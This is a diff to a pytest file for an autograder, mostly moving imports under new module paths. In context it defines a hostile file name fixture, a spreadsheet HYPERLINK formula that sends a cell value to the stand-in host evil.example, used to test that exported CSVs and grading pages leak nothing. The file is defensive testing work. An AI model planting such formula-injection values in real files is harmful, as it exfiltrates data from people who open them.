@@ -23,8 +23,8 @@ import pytest
 from helpers import ROOT
 from test_written import MASTER, NAME, fill
 
-from autograder import csv_cells
-from autograder.written import export_sheets, import_scores, written_questions
+from autograder.common import csv_cells
+from autograder.review.written import export_sheets, import_scores, written_questions
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 HOSTILE_FILE = '=HYPERLINK("evil.example?leak="&A3,"open").ipynb'  # a file name holds no "/"
@@ -67,7 +67,7 @@ def test_every_csv_the_tools_write_goes_through_the_one_writer():
         text = path.read_text(encoding="utf-8")
         if re.search(r"\bcsv\.(writer|DictWriter)\(", text):
             offenders.append(str(path.relative_to(ROOT)))
-    assert not offenders, f"CSV written without autograder.csv_cells: {offenders}"
+    assert not offenders, f"CSV written without autograder.common.csv_cells: {offenders}"
 
 
 def test_every_html_page_the_tools_write_carries_the_policy():
@@ -204,8 +204,8 @@ def test_opening_the_grading_pages_loads_nothing_from_outside(hostile_sheets):
 
 @pytest.mark.browser
 def test_the_class_report_loads_nothing_and_shows_its_figures(tmp_path, listener):
-    from autograder.class_report import write_report
-    from autograder.class_report.synthetic import results as generate
+    from autograder.review.class_report import write_report
+    from autograder.review.class_report.synthetic import results as generate
 
     port, seen = listener
     results = generate(n=40)
